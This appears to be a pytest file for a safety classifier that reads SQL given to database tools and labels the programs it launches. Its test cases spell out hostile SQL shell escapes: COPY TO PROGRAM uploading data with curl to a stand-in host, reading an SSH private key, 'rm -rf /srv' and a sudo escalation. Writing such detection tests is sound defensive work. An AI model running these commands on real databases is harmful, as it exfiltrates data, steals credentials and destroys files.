"""SQL that a tool is given, with the programs that it starts."""

import pytest

from sidecar.core.model.effect import Effect, Object, Thing
from sidecar.core.understand.query import query, spoken


@pytest.mark.parametrize(
    ("text", "dialect", "program", "effect"),
    [
        (
            "COPY t TO PROGRAM 'curl -T - https://x.example'",
            "postgres",
            "curl -T - https://x.example",
            "leaves_machine",
        ),
        ("COPY t FROM PROGRAM 'cat ~/.ssh/id_rsa'", "postgres", "cat ~/.ssh/id_rsa", "reads_secret"),
        ("\\! rm -rf /srv", "postgres", "rm -rf /srv", "destroys_data"),
        (".shell rm -rf /srv", "sqlite", "rm -rf /srv", "destroys_data"),
        ("\\o | sudo tee x", "postgres", "sudo tee x", "escalates"),
    ],
)
def test_a_started_program_is_read_like_a_command(text: str, dialect: str, program: str, effect: str) -> None:
    read = query(text, dialect)
    assert Object(Thing.COMMAND, program) in read.objects
    assert {Effect.RUNS_CODE, Effect(effect)} <= read.effects


def test_a_statement_that_starts_none_is_as_it_was() -> None:
    assert query("SELECT 1").effects == {Effect.READS}
    assert Effect.DESTROYS_DATA not in query("COPY t TO PROGRAM 'gzip > /tmp/t.gz'").effects


@pytest.mark.parametrize(
    ("tool", "dialect"),
    [
        ("mcp__postgres__query", "postgres"),
        ("mcp__my-mysql-server__run", "mysql"),
        ("mcp__sqlite3__query", "sqlite"),
        ("mcp__mysql_to_postgres__query", None),
        ("mcp__db__query", None),
    ],
)
def test_the_name_of_a_server_may_say_its_dialect(tool: str, dialect: str | None) -> None:
    assert spoken(tool) == dialect
